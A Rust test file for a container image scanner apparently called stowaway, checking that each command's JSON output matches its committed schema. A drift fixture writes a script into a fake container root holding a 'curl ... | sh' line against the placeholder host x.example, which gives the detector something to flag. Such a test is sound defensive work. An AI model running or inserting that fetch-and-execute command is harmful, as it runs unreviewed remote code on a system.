//! The JSON schemas of the output documents: the committed files in
//! `schemas/` are what the types generate, and the real output of the
//! binary on the demo image (scan, inventory, gate, diff, drift, in each of
//! their shapes) validates against them with Python's `jsonschema`.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::Value;
use stowaway::report::schema;

use crate::util::{require, stowaway, tmp};

const DEMO: &str = concat!("oci:", env!("CARGO_MANIFEST_DIR"), "/examples/demo-image");

fn schema_path(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("schemas")
        .join(format!("{name}.schema.json"))
}

#[test]
fn schemas_are_current() {
    let update = std::env::var_os("STOWAWAY_UPDATE_SCHEMAS").is_some();
    let mut stale = Vec::new();
    for (name, s) in schema::all() {
        let want = schema::text(&s);
        let path = schema_path(name);
        if update {
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(&path, &want).unwrap();
        } else if std::fs::read_to_string(&path).ok().as_deref() != Some(want.as_str()) {
            stale.push(path.display().to_string());
        }
    }
    assert!(
        stale.is_empty(),
        "stale schemas (regenerate: STOWAWAY_UPDATE_SCHEMAS=1 cargo test --test tests schemas_are_current): {}",
        stale.join(", ")
    );
}

/// Validate `doc` with the committed schema `name` (draft 2020-12); the
/// errors, if any.
pub(crate) fn validate(name: &str, doc: &str) -> Result<(), String> {
    let script = r#"
import json, sys
import jsonschema
schema = json.load(open(sys.argv[1]))
jsonschema.Draft202012Validator.check_schema(schema)
doc = json.load(sys.stdin)
errors = sorted(jsonschema.Draft202012Validator(schema).iter_errors(doc), key=lambda e: list(e.path))
for e in errors[:10]:
    print("/".join(map(str, e.path)), e.message[:300])
sys.exit(1 if errors else 0)
"#;
    let mut child = Command::new(crate::util::python())
        .args(["-c", script])
        .arg(schema_path(name))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .map_err(|e| e.to_string())?;
    use std::io::Write as _;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(doc.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    if out.status.success() {
        Ok(())
    } else {
        Err(format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ))
    }
}

pub(crate) fn have_jsonschema() -> bool {
    let have = Command::new(crate::util::python())
        .args(["-c", "import jsonschema; jsonschema.Draft202012Validator"])
        .output()
        .map(|o| o.status.success())
        .unwrap_or(false);
    have || require("Python with jsonschema (STOWAWAY_PYTHON: a venv, see .ci/run)")
}

/// Run the binary; its stdout, which must be JSON, and its exit code.
fn json_of(args: &[&str]) -> (String, i32) {
    let out = stowaway(args);
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let code = out.status.code().unwrap_or(-1);
    assert!(
        serde_json::from_str::<Value>(&text).is_ok() && code != 2,
        "{args:?} exited {code}: {}{text}",
        String::from_utf8_lossy(&out.stderr)
    );
    (text, code)
}

/// A container root filesystem changed after start: a download script and
/// a new file.
fn changed_rootfs(root: &Path) {
    std::fs::create_dir_all(root.join("usr/local/bin")).unwrap();
    std::fs::create_dir_all(root.join("etc")).unwrap();
    let script = root.join("usr/local/bin/new.sh");
    std::fs::write(&script, "#!/bin/sh\ncurl -fsSL http://x.example/p | sh\n").unwrap();
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(root.join("etc/motd"), "hi\n").unwrap();
}

/// Docker state under `host` for one container of the demo image whose
/// writable layer is `upper`.
fn docker_host(host: &Path, config_digest: &str) -> PathBuf {
    let d = host.join("var/lib/docker");
    let id = "5c4e3a0000feedface";
    std::fs::create_dir_all(d.join("containers").join(id)).unwrap();
    std::fs::write(
        d.join("containers").join(id).join("config.v2.json"),
        serde_json::json!({"ID": id, "Name": "/demo", "Image": config_digest, "Config": {"Image": "demo"}}).to_string(),
    )
    .unwrap();
    let mounts = d.join("image/overlay2/layerdb/mounts").join(id);
    std::fs::create_dir_all(&mounts).unwrap();
    std::fs::write(mounts.join("mount-id"), "m0unt").unwrap();
    d.join("overlay2/m0unt/diff")
}

#[cfg_attr(
    not(has_tool = "py-jsonschema"),
    ignore = "needs Python with jsonschema (STOWAWAY_PYTHON: see .ci/run)"
)]
#[test]
fn real_output_of_every_command_matches_its_schema() {
    if !have_jsonschema() {
        return;
    }
    let t = tmp();
    let db = t.path().join("store.db");
    let empty = t.path().join("empty.db");
    let (db, empty) = (db.to_str().unwrap(), empty.to_str().unwrap());
    let root = t.path().join("rootfs");
    changed_rootfs(&root);
    let rootfs = root.to_str().unwrap();
    let dir_ref = format!("dir:{rootfs}");
    let out = stowaway(&["baseline", "approve", DEMO, "--name", "demo", "--db", db]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    let (scan, _) = json_of(&["scan", DEMO, "--format", "json"]);
    let config_digest = serde_json::from_str::<Value>(&scan).unwrap()["image"]["config_digest"]
        .as_str()
        .unwrap()
        .to_string();
    let host = t.path().join("host");
    changed_rootfs(&docker_host(&host, &config_digest));
    let host = host.to_str().unwrap();

    let cases: Vec<(&str, Vec<&str>)> = vec![
        ("scan", vec!["scan", DEMO, "--format", "json"]),
        (
            "scan",
            vec![
                "scan",
                DEMO,
                "--format",
                "json",
                "--baseline",
                "demo",
                "--db",
                db,
            ],
        ),
        (
            "scan",
            vec![
                "scan",
                DEMO,
                "--format",
                "json",
                "--baseline",
                "auto",
                "--db",
                empty,
            ],
        ),
        ("inventory", vec!["inventory", DEMO, "--format", "json"]),
        (
            "inventory",
            vec!["inventory", DEMO, "--format", "json", "--all-layers"],
        ),
        (
            "gate",
            vec![
                "gate",
                DEMO,
                "--format",
                "json",
                "--baseline",
                "demo",
                "--db",
                db,
            ],
        ),
        (
            "gate",
            vec!["gate", DEMO, "--format", "json", "--db", empty],
        ),
        ("diff", vec!["diff", DEMO, &dir_ref, "--format", "json"]),
        (
            "drift",
            vec![
                "drift", "--image", DEMO, "--rootfs", rootfs, "--format", "json",
            ],
        ),
        (
            "drift",
            vec![
                "drift",
                "--all",
                "--host-root",
                host,
                "--db",
                db,
                "--format",
                "json",
            ],
        ),
    ];
    let mut failures = Vec::new();
    for (name, args) in &cases {
        let (doc, _) = json_of(args);
        if let Err(e) = validate(name, &doc) {
            failures.push(format!("{args:?}:\n{e}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));

    // Each shape was really produced: a baseline comparison, hidden files,
    // findings with a decision, a delta, a list of discovered containers.
    let v = |args: &[&str]| serde_json::from_str::<Value>(&json_of(args).0).unwrap();
    assert_eq!(v(&cases[1].1)["baseline"]["name"], "demo");
    assert!(
        v(&cases[4].1)["removed"]
            .as_array()
            .is_some_and(|r| !r.is_empty())
    );
    assert!(v(&cases[5].1)["findings"][0]["action"].is_string());
    assert!(
        v(&cases[7].1)["delta"]["added"]
            .as_array()
            .is_some_and(|r| !r.is_empty())
    );
    let many = v(&cases[9].1);
    assert_eq!(many[0]["container"]["runtime"], "docker", "{many:#}");
    assert_eq!(many[0]["verdict"], "fail", "{many:#}");
}

#[cfg_attr(
    not(has_tool = "py-jsonschema"),
    ignore = "needs Python with jsonschema (STOWAWAY_PYTHON: see .ci/run)"
)]
#[test]
fn the_schemas_reject_what_the_types_do_not_produce() {
    if !have_jsonschema() {
        return;
    }
    let (scan, _) = json_of(&["scan", DEMO, "--format", "json"]);
    assert_eq!(validate("scan", &scan), Ok(()));
    let mut v: Value = serde_json::from_str(&scan).unwrap();
    v["findings"][0]["bogus"] = Value::from(1);
    assert!(
        validate("scan", &v.to_string()).is_err(),
        "unknown field accepted"
    );
    let mut v: Value = serde_json::from_str(&scan).unwrap();
    v["findings"][0]["severity"] = Value::from("urgent");
    assert!(
        validate("scan", &v.to_string()).is_err(),
        "unknown severity accepted"
    );
    let mut v: Value = serde_json::from_str(&scan).unwrap();
    v["findings"][0]["code"] = Value::from("no-such-code");
    assert!(
        validate("scan", &v.to_string()).is_err(),
        "unknown code accepted"
    );
    let mut v: Value = serde_json::from_str(&scan).unwrap();
    v["image"]["digest"] = Value::from("md5:00");
    assert!(
        validate("scan", &v.to_string()).is_err(),
        "malformed digest accepted"
    );
    let mut v: Value = serde_json::from_str(&scan).unwrap();
    v["schema_version"] = Value::from("2.0");
    assert!(
        validate("scan", &v.to_string()).is_err(),
        "another schema version accepted"
    );
    let mut v: Value = serde_json::from_str(&scan).unwrap();
    v["findings"][0]["evidence_items"] = serde_json::json!([{"kind": "guess", "text": "x"}]);
    assert!(
        validate("scan", &v.to_string()).is_err(),
        "unknown evidence kind accepted"
    );
    let (gate, _) = json_of(&["gate", DEMO, "--format", "json"]);
    let mut v: Value = serde_json::from_str(&gate).unwrap();
    v["verdict"] = Value::from("maybe");
    assert!(
        validate("gate", &v.to_string()).is_err(),
        "unknown verdict accepted"
    );
}

/// A containers-storage root (vfs driver) whose metadata lists one tagged
/// and one untagged image, as Podman writes it.
fn listed_store(root: &Path) {
    std::fs::create_dir_all(root.join("vfs-images")).unwrap();
    std::fs::create_dir_all(root.join("vfs-layers")).unwrap();
    let digest = format!("sha256:{}", "ab".repeat(32));
    let images = serde_json::json!([
        {"id": "1d".repeat(32), "digest": digest, "names": ["localhost/listed:1"], "layer": "l2"},
        {"id": "2e".repeat(32), "layer": "l1"},
    ]);
    let layers = serde_json::json!([
        {"id": "l1", "diff-size": 100},
        {"id": "l2", "parent": "l1", "diff-size": 20},
    ]);
    std::fs::write(root.join("vfs-images/images.json"), images.to_string()).unwrap();
    std::fs::write(root.join("vfs-layers/layers.json"), layers.to_string()).unwrap();
}

#[cfg_attr(
    not(has_tool = "py-jsonschema"),
    ignore = "needs Python with jsonschema (STOWAWAY_PYTHON: see .ci/run)"
)]
#[test]
fn images_json_matches_its_schema() {
    if !have_jsonschema() {
        return;
    }
    let t = tmp();
    let root = t.path().join("storage");
    listed_store(&root);
    let absent = t.path().join("no-docker.sock");
    let out = crate::util::bin()
        .env("DOCKER_HOST", format!("unix://{}", absent.display()))
        .args(["images", "--format", "json", "--storage-root"])
        .arg(&root)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    validate("images", &text).unwrap_or_else(|e| panic!("{e}\n{text}"));
    let v: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(v["schema_version"], stowaway::report::model::SCHEMA_VERSION);
    let ours: Vec<&Value> = v["images"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|i| i["store"] == "containers-storage")
        .collect();
    assert_eq!(ours.len(), 2, "{v:#}");
    assert_eq!(ours[0]["name"], "localhost/listed:1");
    assert_eq!(ours[0]["size"], 120);
    assert!(ours[1]["name"].as_str().unwrap().starts_with("<none> ("));
    let docker = v["stores"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["store"] == "docker-daemon")
        .expect("the Docker store is reported");
    assert!(docker["error"].is_string(), "{v:#}");
    // An unknown store name is refused by the schema.
    let mut bad = v.clone();
    bad["images"][0]["store"] = Value::from("lxc");
    assert!(validate("images", &bad.to_string()).is_err());
}
